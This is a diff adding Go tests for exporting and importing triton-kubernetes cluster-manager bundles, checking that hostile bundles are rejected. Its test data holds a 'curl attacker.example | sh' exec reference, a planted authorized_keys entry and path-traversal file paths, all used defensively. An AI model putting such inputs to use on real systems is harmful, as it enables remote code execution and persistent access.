@@ -0,0 +1,338 @@
+package manager
+
+import (
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/joyent/triton-kubernetes/backend/mocks"
+	"github.com/joyent/triton-kubernetes/state"
+
+	homedir "github.com/mitchellh/go-homedir"
+	"github.com/spf13/viper"
+	"github.com/stretchr/testify/mock"
+)
+
+const bundleConfig = `{
+	"terraform": {"backend": {"local": {"path": "/old"}}},
+	"module": {
+		"cluster-manager": {
+			"source": "./terraform/modules/triton-rancher",
+			"name": "dev-manager",
+			"triton_key_path": "~/.ssh/id_rsa"
+		},
+		"cluster_gcp_dev": {
+			"source": "./terraform/modules/gcp-rancher-k8s",
+			"name": "dev",
+			"gcp_path_to_credentials": "~/gcp.json",
+			"rancher_api_url": "${module.cluster-manager.rancher_url}"
+		}
+	}
+}`
+
+func setupBundleHome(t *testing.T) (string, func()) {
+	home, err := ioutil.TempDir("", "triton-kubernetes-home-")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	oldHome := os.Getenv("HOME")
+	os.Setenv("HOME", home)
+	homedir.DisableCache = true
+
+	err = os.MkdirAll(filepath.Join(home, ".ssh"), 0700)
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = ioutil.WriteFile(filepath.Join(home, ".ssh", "id_rsa"), []byte("private key"), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = ioutil.WriteFile(filepath.Join(home, "gcp.json"), []byte(`{"type": "service_account"}`), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return home, func() {
+		os.Setenv("HOME", oldHome)
+		homedir.DisableCache = false
+		os.RemoveAll(home)
+	}
+}
+
+func exportTestBundle(t *testing.T, home string, encrypt bool) string {
+	return exportTestBundleConfig(t, home, bundleConfig, encrypt)
+}
+
+func exportTestBundleConfig(t *testing.T, home, config string, encrypt bool) string {
+	currentState, _ := state.Load("dev-manager", []byte(config))
+
+	sourceBackend := &mocks.Backend{}
+	sourceBackend.On("States").Return([]string{"dev-manager"}, nil)
+	sourceBackend.On("Lock", "dev-manager", mock.Anything).Return(nil)
+	sourceBackend.On("Unlock", "dev-manager", mock.Anything).Return(nil)
+	sourceBackend.On("State", "dev-manager").Return(currentState, nil)
+	sourceBackend.On("TerraformState", "dev-manager").Return([]byte(`{"version": 4}`), nil)
+
+	output := filepath.Join(home, "bundle.tgz")
+	err := ExportManager(sourceBackend, "dev-manager", output, encrypt)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return output
+}
+
+func TestExportImportManager(t *testing.T) {
+	viper.Reset()
+	viper.Set("non-interactive", true)
+
+	home, teardown := setupBundleHome(t)
+	defer teardown()
+
+	bundlePath := exportTestBundle(t, home, false)
+
+	// Import on a machine without the local files
+	os.RemoveAll(filepath.Join(home, ".ssh"))
+	os.Remove(filepath.Join(home, "gcp.json"))
+
+	destinationBackend := &mocks.Backend{}
+	destinationBackend.On("Lock", "dev-manager", mock.Anything).Return(nil)
+	destinationBackend.On("Unlock", "dev-manager", mock.Anything).Return(nil)
+	destinationBackend.On("States").Return([]string{}, nil)
+	destinationBackend.On("StateTerraformConfig", "dev-manager").Return("terraform.backend.manta", testTerraformBackendConfig{Path: "/new"})
+	destinationBackend.On("PersistState", mock.MatchedBy(func(s state.State) bool {
+		// The terraform backend configuration is stored as given by StateTerraformConfig
+		backendConfig, ok := s.Value("terraform.backend.manta")
+		return s.Name == "dev-manager" && ok &&
+			backendConfig == testTerraformBackendConfig{Path: "/new"} &&
+			s.Get("module.cluster-manager.triton_key_path") == "~/.ssh/id_rsa"
+	})).Return(nil)
+	destinationBackend.On("PersistTerraformState", "dev-manager", []byte(`{"version": 4}`)).Return(nil)
+
+	err := ImportManager(destinationBackend, bundlePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	destinationBackend.AssertExpectations(t)
+
+	content, err := ioutil.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))
+	if err != nil || string(content) != "private key" {
+		t.Errorf("key file, got: %q (%v), want: %q", content, err, "private key")
+	}
+	content, err = ioutil.ReadFile(filepath.Join(home, "gcp.json"))
+	if err != nil || string(content) != `{"type": "service_account"}` {
+		t.Errorf("credentials file, got: %q (%v)", content, err)
+	}
+}
+
+func TestImportManagerConflictingFile(t *testing.T) {
+	viper.Reset()
+	viper.Set("non-interactive", true)
+
+	home, teardown := setupBundleHome(t)
+	defer teardown()
+
+	bundlePath := exportTestBundle(t, home, false)
+
+	err := ioutil.WriteFile(filepath.Join(home, ".ssh", "id_rsa"), []byte("another key"), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	destinationBackend := &mocks.Backend{}
+	destinationBackend.On("Lock", "dev-manager", mock.Anything).Return(nil)
+	destinationBackend.On("Unlock", "dev-manager", mock.Anything).Return(nil)
+	destinationBackend.On("States").Return([]string{}, nil)
+	destinationBackend.On("StateTerraformConfig", "dev-manager").Return("terraform.backend.manta", testTerraformBackendConfig{Path: "/new"})
+
+	expected := "File '~/.ssh/id_rsa' already exists with different content, move it away to import the bundle."
+
+	err = ImportManager(destinationBackend, bundlePath)
+	if err == nil || expected != err.Error() {
+		t.Errorf("Wrong output, expected %s, received %v", expected, err)
+	}
+
+	destinationBackend.AssertNotCalled(t, "PersistState", mock.Anything)
+}
+
+func TestImportManagerExecReferences(t *testing.T) {
+	viper.Reset()
+	viper.Set("non-interactive", true)
+
+	home, teardown := setupBundleHome(t)
+	defer teardown()
+
+	config := `{"module":{"cluster-manager":{"name":"dev-manager","rancher_admin_password":"exec:curl attacker.example | sh"}}}`
+	bundlePath := exportTestBundleConfig(t, home, config, false)
+
+	destinationBackend := &mocks.Backend{}
+	destinationBackend.On("Lock", "dev-manager", mock.Anything).Return(nil)
+	destinationBackend.On("Unlock", "dev-manager", mock.Anything).Return(nil)
+	destinationBackend.On("States").Return([]string{}, nil)
+
+	expected := "The bundle's configuration has exec: secret references, which are never imported. Replace them with env: or file: references before exporting it."
+
+	err := ImportManager(destinationBackend, bundlePath)
+	if err == nil || expected != err.Error() {
+		t.Errorf("Wrong output, expected %s, received %v", expected, err)
+	}
+
+	destinationBackend.AssertNotCalled(t, "PersistState", mock.Anything)
+}
+
+func TestImportEncryptedManager(t *testing.T) {
+	viper.Reset()
+	viper.Set("non-interactive", true)
+	viper.Set("bundle_passphrase", "correct horse battery staple")
+
+	home, teardown := setupBundleHome(t)
+	defer teardown()
+
+	bundlePath := exportTestBundle(t, home, true)
+
+	content, err := ioutil.ReadFile(bundlePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !state.IsEncryptedSecret(string(content)) {
+		t.Fatal("expected an encrypted bundle")
+	}
+
+	destinationBackend := &mocks.Backend{}
+	destinationBackend.On("Lock", "dev-manager", mock.Anything).Return(nil)
+	destinationBackend.On("Unlock", "dev-manager", mock.Anything).Return(nil)
+	destinationBackend.On("States").Return([]string{}, nil)
+	destinationBackend.On("StateTerraformConfig", "dev-manager").Return("terraform.backend.manta", testTerraformBackendConfig{Path: "/new"})
+	destinationBackend.On("PersistState", mock.Anything).Return(nil)
+	destinationBackend.On("PersistTerraformState", "dev-manager", []byte(`{"version": 4}`)).Return(nil)
+
+	viper.Set("bundle_passphrase", "wrong")
+	err = ImportManager(destinationBackend, bundlePath)
+	if err == nil {
+		t.Error("expected an error importing with the wrong passphrase")
+	}
+
+	viper.Set("bundle_passphrase", "correct horse battery staple")
+	err = ImportManager(destinationBackend, bundlePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	destinationBackend.AssertExpectations(t)
+}
+
+// writeTestBundle writes a bundle for config with the given local files, by path.
+func writeTestBundle(t *testing.T, home, name, config string, files map[string]string) string {
+	b := bundle{
+		Manifest: bundleManifest{Version: bundleVersion, Name: name},
+		Config:   []byte(config),
+		Files:    map[string][]byte{},
+	}
+	i := 0
+	for filePath, content := range files {
+		bundlePath := fmt.Sprintf("%s/%d", bundleFilesDirectory, i)
+		b.Manifest.Files = append(b.Manifest.Files, bundleFile{Path: filePath, BundlePath: bundlePath})
+		b.Files[bundlePath] = []byte(content)
+		i++
+	}
+
+	content, err := writeBundle(b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	output := filepath.Join(home, "crafted.tgz")
+	err = ioutil.WriteFile(output, content, 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return output
+}
+
+func TestImportManagerRestoresOnlyReferencedFiles(t *testing.T) {
+	viper.Reset()
+	viper.Set("non-interactive", true)
+
+	home, teardown := setupBundleHome(t)
+	defer teardown()
+
+	outside, err := ioutil.TempDir("", "triton-kubernetes-outside-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(outside)
+	outsidePath := filepath.Join(outside, "autostart.sh")
+
+	testCases := []struct {
+		config   string
+		files    map[string]string
+		expected string
+	}{
+		// A file the configuration doesn't reference
+		{
+			`{"module":{"cluster-manager":{"name":"dev-manager"}}}`,
+			map[string]string{"~/.ssh/authorized_keys": "ssh-rsa attacker"},
+			"File '~/.ssh/authorized_keys' in the bundle is not referenced by the configuration.",
+		},
+		// A referenced file outside the home directory
+		{
+			fmt.Sprintf(`{"module":{"cluster-manager":{"name":"dev-manager","triton_key_path":%q}}}`, outsidePath),
+			map[string]string{outsidePath: "#!/bin/sh"},
+			fmt.Sprintf("File '%s' in the bundle is not restored, only files in the home directory are.", outsidePath),
+		},
+		// A referenced file that escapes the home directory
+		{
+			`{"module":{"cluster-manager":{"name":"dev-manager","triton_key_path":"~/../autostart.sh"}}}`,
+			map[string]string{"~/../autostart.sh": "#!/bin/sh"},
+			"File '~/../autostart.sh' in the bundle is not restored, its path contains '..'.",
+		},
+	}
+
+	for _, tc := range testCases {
+		bundlePath := writeTestBundle(t, home, "dev-manager", tc.config, tc.files)
+
+		destinationBackend := &mocks.Backend{}
+		destinationBackend.On("Lock", "dev-manager", mock.Anything).Return(nil)
+		destinationBackend.On("Unlock", "dev-manager", mock.Anything).Return(nil)
+		destinationBackend.On("States").Return([]string{}, nil)
+		destinationBackend.On("StateTerraformConfig", "dev-manager").Return("terraform.backend.manta", testTerraformBackendConfig{Path: "/new"})
+
+		err := ImportManager(destinationBackend, bundlePath)
+		if err == nil || tc.expected != err.Error() {
+			t.Errorf("Wrong output, expected %s, received %v", tc.expected, err)
+		}
+
+		destinationBackend.AssertNotCalled(t, "PersistState", mock.Anything)
+	}
+
+	if _, err := os.Stat(filepath.Join(home, ".ssh", "authorized_keys")); !os.IsNotExist(err) {
+		t.Error("Expected authorized_keys not to be written")
+	}
+	if _, err := os.Stat(outsidePath); !os.IsNotExist(err) {
+		t.Error("Expected the file outside the home directory not to be written")
+	}
+}
+
+func TestImportManagerInvalidName(t *testing.T) {
+	viper.Reset()
+	viper.Set("non-interactive", true)
+
+	home, teardown := setupBundleHome(t)
+	defer teardown()
+
+	bundlePath := writeTestBundle(t, home, "../../x", `{"module":{}}`, nil)
+
+	destinationBackend := &mocks.Backend{}
+
+	err := ImportManager(destinationBackend, bundlePath)
+	if err == nil || !strings.Contains(err.Error(), "Invalid cluster manager name") {
+		t.Errorf("Wrong output, expected an invalid name error, received %v", err)
+	}
+
+	destinationBackend.AssertNotCalled(t, "Lock", mock.Anything, mock.Anything)
+}